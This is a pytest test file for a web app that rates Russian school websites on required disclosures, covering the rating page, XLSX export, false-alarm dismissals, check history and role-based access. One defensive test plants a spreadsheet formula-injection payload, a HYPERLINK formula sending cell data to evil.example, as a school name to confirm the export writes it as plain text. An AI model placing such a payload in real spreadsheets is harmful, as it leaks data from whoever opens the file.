"""The pages of the website checks: the rating with its chart and XLSX export (WD-5), a
school's findings with false alarms and history (WD-1..WD-4), and who may see and do what."""
import io
import re

import pytest
from sqlalchemy import select

from core.extensions import db
from blueprints.disclosure.models import Dismissal, Finding
from tests.disclosure.helpers import checked, fake_crawler, kirovsk, REPORTS  # noqa: F401 - fixtures

EN = {"Accept-Language": "en"}


def signed_in(app, login, user):
    client = app.test_client()
    login(client, user)
    return client


def fault(as_platform, school_id, key="service_regulation"):
    with as_platform():
        return db.session.execute(select(Finding.id).where(Finding.tenant_id == school_id, Finding.key == key)
                                  .order_by(Finding.id.desc())).scalars().first()


def test_the_rating_ranks_schools_with_a_chart_and_an_export(app, checked, login):
    """WD-5: schools by score, best first, with required items, dead links, outdated
    documents, missing microdata and the date; a bar per school; XLSX."""
    http = signed_in(app, login, checked["admin"])
    page = http.get(f"/disclosure/tenants/{checked['municipality']['id']}", headers=EN)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    rows = re.findall(r'<tr data-school="(\d+)">', html)
    assert rows == [str(checked["schools"][i]["id"]) for i in (0, 1, 2)]
    assert "8 / 8" in html and "7 / 8" in html
    assert html.count('class="bar"') == 3 and 'data-testid="rating-chart"' in html
    assert "Start check" in html and "rating.xlsx" in html

    export = http.get(f"/disclosure/tenants/{checked['municipality']['id']}/rating.xlsx", headers=EN)
    assert export.status_code == 200 and export.mimetype.endswith("spreadsheetml.sheet")
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export.data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "г. Кировск"
    assert values[1][:5] == ["Place", "School", "Website", "Score", "Score before false alarms"]
    assert [(r[0], r[1], r[3], r[5], r[6], r[7]) for r in values[2:]] == [
        (1, "СОШ № 2", 100.0, 8, 8, 0), (2, "СОШ № 5", 85.2, 7, 8, 1), (3, "СОШ № 10", 83.9, 7, 8, 0)]


def test_a_school_name_that_looks_like_a_formula_is_exported_as_text(app, checked, login, raw_sql):
    """Names come from tenants' own input: the inspector's spreadsheet never runs them."""
    formula = '=HYPERLINK("http://evil.example/?"&B3,"СОШ № 10")'
    raw_sql("UPDATE tenant SET name = :n WHERE id = :i", n=formula, i=checked["schools"][2]["id"])
    http = signed_in(app, login, checked["admin"])
    export = http.get(f"/disclosure/tenants/{checked['municipality']['id']}/rating.xlsx", headers=EN)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export.data)).active
    cell = next(row[1] for row in sheet.iter_rows(min_row=3) if row[1].value == formula)
    assert cell.data_type == "s"


def test_the_rating_page_costs_the_same_queries_whatever_the_number_of_schools(
        app, checked, login, count_queries, make_tenant, monkeypatch, as_platform):
    http = signed_in(app, login, checked["admin"])
    url = f"/disclosure/tenants/{checked['municipality']['id']}"
    http.get(url)
    with count_queries() as few:
        assert http.get(url).status_code == 200
    for n in range(6):
        make_tenant(f"Гимназия № {n}", parent=checked["municipality"], website_url=f"http://127.0.0.1:9/g{n}/")
    from blueprints.disclosure import check_runs
    from tenants.models import Tenant

    fake_crawler(monkeypatch, REPORTS)
    with as_platform():
        check_runs.start_check(db.session.get(Tenant, checked["municipality"]["id"]), permission_checked=True)
    http.get(url)  # the new schools moved the municipality's key: the kept identity is read anew once
    with count_queries() as many:
        page = http.get(url)
    assert page.get_data(as_text=True).count('class="bar"') == 9
    assert many.count == few.count, (few.count, many.count)
    assert few.count <= 8


def test_a_school_page_lists_findings_and_a_false_alarm_needs_a_reason(app, checked, login, as_platform):
    """WD-1..WD-4: faults with a false-alarm form; an empty reason is refused, naming the field."""
    school = checked["schools"][2]
    http = signed_in(app, login, checked["admin"])
    page = http.get(f"/disclosure/schools/{school['id']}", headers=EN)
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    for group in ('data-kind="item"', 'data-kind="link"', 'data-kind="outdated"', 'data-kind="microdata"'):
        assert group in html
    assert 'data-finding="item:service_regulation" class="fault"' in html
    assert "http://127.0.0.1:9/old.pdf" in html and 'itemprop="email"' in html

    finding_id = fault(as_platform, school["id"])
    refused = http.post(f"/disclosure/findings/{finding_id}/dismissal", data={"reason": "  "}, headers=EN)
    assert refused.status_code == 422
    text = refused.get_data(as_text=True)
    assert "Give the reason why this is a false alarm." in text
    assert f'id="reason-{finding_id}-error"' in text and 'aria-invalid="true"' in text
    with as_platform():
        assert db.session.execute(select(Dismissal)).first() is None


def test_the_reason_error_is_in_russian(app, checked, login, as_platform):
    from flask_babel import force_locale, gettext

    message = "Give the reason why this is a false alarm."
    with app.test_request_context(), force_locale("ru"):
        russian = gettext(message)
    assert russian != message  # the Russian catalog has it
    school = checked["schools"][2]
    http = signed_in(app, login, checked["admin"])
    refused = http.post(f"/disclosure/findings/{fault(as_platform, school['id'])}/dismissal", data={"reason": ""},
                        headers={"Accept-Language": "ru"})
    assert refused.status_code == 422 and russian in refused.get_data(as_text=True)


def test_a_dismissed_fault_shows_its_reason_and_can_be_withdrawn(app, checked, login, as_platform):
    school = checked["schools"][2]
    own = signed_in(app, login, checked["school_admin"])
    finding_id = fault(as_platform, school["id"])
    assert own.post(f"/disclosure/findings/{finding_id}/dismissal", data={"reason": "всё есть"}).status_code == 403
    assert "False alarm?" not in own.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
    http = signed_in(app, login, checked["admin"])
    done = http.post(f"/disclosure/findings/{finding_id}/dismissal",
                     data={"reason": "Регламент на странице «Документы», проверено вручную"})
    assert done.status_code == 302 and done.headers["Location"].endswith(f"#finding-{finding_id}")
    html = own.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
    assert 'data-finding="item:service_regulation" class="dismissed"' in html  # the school sees the decision
    assert "False alarm (checked by hand)" in html and "проверено вручную" in html and "Kirovsk" in html
    html = http.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
    assert "Withdraw" in html
    with as_platform():
        dismissal_id = db.session.execute(select(Dismissal.id)).scalar_one()
    assert http.post(f"/disclosure/dismissals/{dismissal_id}/withdrawal").status_code == 302
    html = http.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
    assert 'data-finding="item:service_regulation" class="fault"' in html


def test_the_history_shows_each_check_with_fixed_and_new(app, checked, login, monkeypatch, as_platform):
    from blueprints.disclosure import check_runs, results
    from tenants.models import Tenant
    from tests.disclosure.helpers import report

    school = checked["schools"][2]
    url = "http://127.0.0.1:9/school10/"
    fake_crawler(monkeypatch, {url: report(url, missing=["gosuslugi_link"])})
    with as_platform():
        check_runs.start_check(db.session.get(Tenant, school["id"]), permission_checked=True)
    http = signed_in(app, login, checked["school_admin"])
    html = http.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
    history = html[html.index('data-testid="history"'):]
    assert history.count("<tr") == 3  # the header and two checks
    assert "<summary>3</summary>" in history  # fixed: the regulation, the outdated document, the microdata
    assert "<summary>1</summary>" in history  # new: the portal link
    with as_platform():
        first = results.history(db.session.get(Tenant, school["id"]))[-1].check.id
    older = http.get(f"/disclosure/checks/{first}", headers=EN)
    assert older.status_code == 200 and "Show the latest check" in older.get_data(as_text=True)
    run = http.get(f"/disclosure/runs/{checked['run_id']}", headers=EN)
    assert run.status_code == 404  # the municipality's run is outside the school admin's scope
    assert signed_in(app, login, checked["admin"]).get(f"/disclosure/runs/{checked['run_id']}").status_code == 200


def test_starting_a_check_from_the_page_shows_its_progress(app, checked, login, monkeypatch):
    fake_crawler(monkeypatch, REPORTS)
    http = signed_in(app, login, checked["admin"])
    started = http.post(f"/disclosure/tenants/{checked['municipality']['id']}/checks")
    assert started.status_code == 302 and started.headers["Location"].endswith("#run")
    html = http.get(started.headers["Location"], headers=EN).get_data(as_text=True)
    assert "3 of 3 schools checked" in html


@pytest.mark.parametrize("who,path,status", [
    ("teacher", "/disclosure", 403),
    ("teacher", "/disclosure/schools/{s10}", 403),
    ("teacher", "/disclosure/tenants/{s10}", 403),
    ("other_school_admin", "/disclosure/schools/{s10}", 404),
    ("school_admin", "/disclosure/tenants/{muni}", 403),  # an ancestor is visible, not readable,
    ("school_admin", "/disclosure/schools/{s10}", 200),
    ("admin", "/disclosure/schools/{s10}", 200),
    ("region_admin", "/disclosure/tenants/{muni}", 200),
    ("region_admin", "/disclosure/tenants/{region}", 200),
])
def test_who_may_read(app, checked, login, who, path, status):
    http = signed_in(app, login, checked[who])
    url = path.format(s10=checked["schools"][2]["id"], muni=checked["municipality"]["id"],
                      region=checked["region"]["id"])
    assert http.get(url).status_code == status


@pytest.mark.parametrize("who,target,status", [
    ("teacher", "s10", 403), ("school_admin", "s10", 302), ("school_admin", "muni", 403), ("admin", "muni", 302),
])
def test_who_may_start_a_check(app, checked, login, monkeypatch, who, target, status):
    fake_crawler(monkeypatch, REPORTS)
    http = signed_in(app, login, checked[who])
    tenant_id = checked["schools"][2]["id"] if target == "s10" else checked["municipality"]["id"]
    assert http.post(f"/disclosure/tenants/{tenant_id}/checks").status_code == status


def test_a_teacher_may_not_dismiss(app, checked, login, as_platform):
    http = signed_in(app, login, checked["teacher"])
    finding_id = fault(as_platform, checked["schools"][2]["id"])
    assert http.post(f"/disclosure/findings/{finding_id}/dismissal", data={"reason": "x"}).status_code == 403


def test_website_checks_lead_each_admin_to_their_page(app, checked, login):
    muni = signed_in(app, login, checked["admin"])
    landing = muni.get("/disclosure")
    assert landing.headers["Location"].endswith(f"/disclosure/tenants/{checked['municipality']['id']}")
    school = signed_in(app, login, checked["school_admin"])
    assert school.get("/disclosure").headers["Location"].endswith(f"/disclosure/schools/{checked['schools'][2]['id']}")
    assert "Website checks" in muni.get(landing.headers["Location"], headers=EN).get_data(as_text=True)
    teacher = signed_in(app, login, checked["teacher"])
    assert "/disclosure" not in teacher.get("/account", headers=EN).get_data(as_text=True)


def test_a_running_check_fetches_the_rating_again_when_it_ends(app, checked, login, raw_sql):
    """While the job runs the run section waits for «job-finished» (raised by the progress
    bar's last answer) to fetch the page again and swap in itself and the results: the new
    rating and the start button come back without a reload."""
    raw_sql("UPDATE job SET status = 'running', progress = 50")
    http = signed_in(app, login, checked["admin"])
    url = f"/disclosure/tenants/{checked['municipality']['id']}"
    html = http.get(url).get_data(as_text=True)
    run = html[html.index('<section id="run"'):html.index("</section>", html.index('<section id="run"'))]
    assert f'hx-get="{url}" hx-trigger="job-finished" hx-select="#run" hx-select-oob="#results"' in run
    assert "Запустить проверку" not in run and '<div id="results">' in html
    raw_sql("UPDATE job SET status = 'succeeded', progress = 100")
    html = http.get(url).get_data(as_text=True)
    run = html[html.index('<section id="run"'):html.index("</section>", html.index('<section id="run"'))]
    assert "hx-trigger" not in run.split(">", 1)[0] and "Запустить проверку" in run
